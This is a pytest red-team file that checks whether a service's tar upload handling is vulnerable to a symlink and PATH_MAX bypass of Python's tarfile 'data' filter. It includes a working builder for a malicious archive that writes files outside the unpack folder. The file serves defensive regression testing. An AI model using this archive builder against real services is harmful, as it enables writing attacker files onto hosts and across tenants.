"""Red team (service): a run's uploaded .tar.gz writes a file OUTSIDE its run folder,
on the host, as the service's user.

`repo_upload.unpack_repo` trusts tarfile's ``filter="data"``. On the Python the
service runs (3.11.7) that filter has a known bypass (CVE-2025-4517, fixed in 3.11.13,
3.12.11, 3.13.4): a chain of symlinks to 247-character folder names makes the real path
longer than PATH_MAX, ``os.path.realpath`` stops resolving, and the filter checks a
path the kernel resolves differently. A symlink ``escape`` that the filter believes
stays inside the folder leads three levels up, to the service's --data folder, and a
regular entry ``escape/PWNED`` is written through it.

Run: ``.venv/bin/python -m pytest tests/redteam_pending/service_tar_escape.py``
(needs Docker: it starts `airlock serve`). It fails while the bug exists.
"""

from __future__ import annotations

import contextlib
import gzip
import io
import tarfile
import time
from pathlib import Path

import pytest

from tests.integration.service_process import Service
from tests.redteam_pending.service_common import client, served, submit  # noqa: F401

pytestmark = [pytest.mark.integration, pytest.mark.timeout(180)]


def escaping_archive(levels_up: int, name: str, data: bytes) -> bytes:
    """A .tar.gz whose entry ``escape/NAME`` lands ``levels_up`` folders above the
    folder it is unpacked into."""
    folder_name = "d" * 247
    steps = "abcdefghijklmnop"
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        path = ""
        for step in steps:
            folder = tarfile.TarInfo(f"{path}{folder_name}")
            folder.type, folder.mode = tarfile.DIRTYPE, 0o755
            tar.addfile(folder)
            link = tarfile.TarInfo(f"{path}{step}")
            link.type, link.linkname = tarfile.SYMTYPE, folder_name
            tar.addfile(link)
            path = f"{path}{folder_name}/"
        deep = "/".join(steps) + "/" + "l" * 254
        back = tarfile.TarInfo(deep)
        back.type, back.linkname = tarfile.SYMTYPE, "../" * len(steps)
        tar.addfile(back)
        escape = tarfile.TarInfo("escape")
        escape.type, escape.linkname = tarfile.SYMTYPE, deep + "/.." * levels_up
        tar.addfile(escape)
        payload = tarfile.TarInfo(f"escape/{name}")
        payload.size, payload.mode = len(data), 0o644
        tar.addfile(payload, io.BytesIO(data))
    return gzip.compress(buffer.getvalue())


def test_an_upload_never_writes_outside_its_run_folder(served: Service) -> None:  # noqa: F811
    runner = served.token("mallory", "runner")
    target = served.data / "PWNED"  # DATA/runs/ID/repo -> three levels up is DATA
    archive = escaping_archive(3, "PWNED", b"written by another tenant's upload\n")
    with client(served, runner) as http:
        answer = submit(http, archive, {"task": "nothing", "max_turns": 1})
        time.sleep(0.5)
        written = target.exists()
        assert not written, (
            f"upload answered {answer.status_code} {answer.text[:200]} and wrote {target}: "
            f"{target.read_text()!r}"
        )
        assert answer.status_code == 400, answer.text


def test_the_bypass_reaches_unpack_repo_directly(tmp_path: Path) -> None:
    """The same, with no service: `unpack_repo` into tmp/runs/ID/repo."""
    from orchestrator.service.repo_upload import UploadError, unpack_repo

    repo = tmp_path / "runs" / "run_x" / "repo"
    repo.parent.mkdir(parents=True)
    archive = escaping_archive(2, "PWNED", b"outside\n")
    with contextlib.suppress(UploadError):
        unpack_repo(io.BytesIO(archive), repo)
    assert not (tmp_path / "runs" / "PWNED").exists(), "written outside the run folder"
